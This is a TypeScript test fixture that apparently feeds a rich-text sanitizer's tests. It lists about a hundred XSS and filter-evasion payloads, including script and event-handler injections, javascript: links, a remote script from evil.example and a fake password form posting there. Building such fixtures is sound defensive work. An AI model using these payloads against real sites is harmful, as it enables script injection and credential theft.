import { required } from './required.ts';
/** What attackers put into rich text: a hundred of it, in ten families. */

const call = 'window.__hostile=1';

const scripts = [
  `<script>${call}</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<script type="module">${call}</script>`,
  `<script\n>${call}</script\n>`,
  `<script/x>${call}</script>`,
  `<<script>${call}//<</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>"></noscript>`,
  `<template><script>${call}</script></template>`,
  `<!--><script>${call}</script>-->`,
];

const handlers = [
  'onclick',
  'onerror',
  'onload',
  'onmouseover',
  'onfocus autofocus tabindex=1',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
  'onbeforeinput contenteditable',
  'onwheel',
].flatMap((name) => {
  const [handler, ...rest] = name.split(' ');
  return [
    `<p ${rest.join(' ')} ${handler}="${call}">p</p>`,
    `<img src="/files/x.png" ${required(handler).toUpperCase()}='${call}'>`,
  ];
});

const frames = [
  '<iframe src="https://evil.example"></iframe>',
  `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  '<frameset><frame src="https://evil.example"></frameset>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<applet code="x.class"></applet>',
  '<portal src="https://evil.example"></portal>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
];

const links = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\nscript:alert(1)',
  'java&#x0A;script:alert(1)',
  'java&Tab;script:alert(1)',
  '&#106;avascript:alert(1)',
  '\u0001javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'blob:https://evil.example/x',
  'file:///etc/passwd',
  '//evil.example',
  'view-source:javascript:alert(1)',
].map((href) => `<a href="${href}">link</a>`);

const styles = [
  '<style>body{display:none}</style>',
  '<style>@import url(https://evil.example/x.css)</style>',
  '<p style="position:fixed;inset:0;background:red">p</p>',
  '<p style="background:url(https://evil.example/x.png)">p</p>',
  '<p style="width:expression(alert(1))">p</p>',
  '<p class="toast" id="root">p</p>',
  '<p data-card-link aria-hidden="true" role="dialog">p</p>',
  '<table background="https://evil.example/x.png"><tr><td>x</td></tr></table>',
  '<font color="red" face="x">p</font>',
  '<marquee onstart=alert(1)>p</marquee>',
];

const drawings = [
  `<svg onload="${call}"></svg>`,
  `<svg><script>${call}</script></svg>`,
  '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"></use></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><foreignObject><iframe src="https://evil.example"></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<svg><image href="https://evil.example/x.png"></image></svg>',
];

const pictures = [
  'data:image/png;base64,iVBORw0KGgo=',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'https://evil.example/x.png',
  'http://evil.example/x.png',
  '//evil.example/x.png',
  'javascript:alert(1)',
  '/files/uploads/../../app/login/logout',
  '/app/exhibiting/articles',
  '/files/uploads/0123456789abcdef0123456789abcdef.svg',
  `/files/uploads/${'0'.repeat(32)}.png?w=160`,
  `/files/uploads/${'0'.repeat(32)}.png#x`,
  `https://evil.example/files/uploads/${'0'.repeat(32)}.png`,
  'cid:1',
  'blob:https://evil.example/x',
  '',
].map((src) => `<img src="${src}">`);

const others = [
  '<form action="https://evil.example"><input name="password"><button>go</button></form>',
  '<video src="https://evil.example/x.mp4" autoplay></video>',
  `<video><source onerror="${call}"></video>`,
  '<audio src="https://evil.example/x.mp3" autoplay></audio>',
  '<picture><source srcset="https://evil.example/x.png"><img></picture>',
  '<img srcset="https://evil.example/x.png 1x">',
  `<details open ontoggle="${call}"><summary>x</summary></details>`,
  '<dialog open>Your session has ended</dialog>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<x-element onclick=alert(1)>x</x-element>',
];

export const hostileTexts: readonly string[] = [
  ...scripts,
  ...handlers,
  ...frames,
  ...links,
  ...styles,
  ...drawings,
  ...pictures,
  ...others,
];
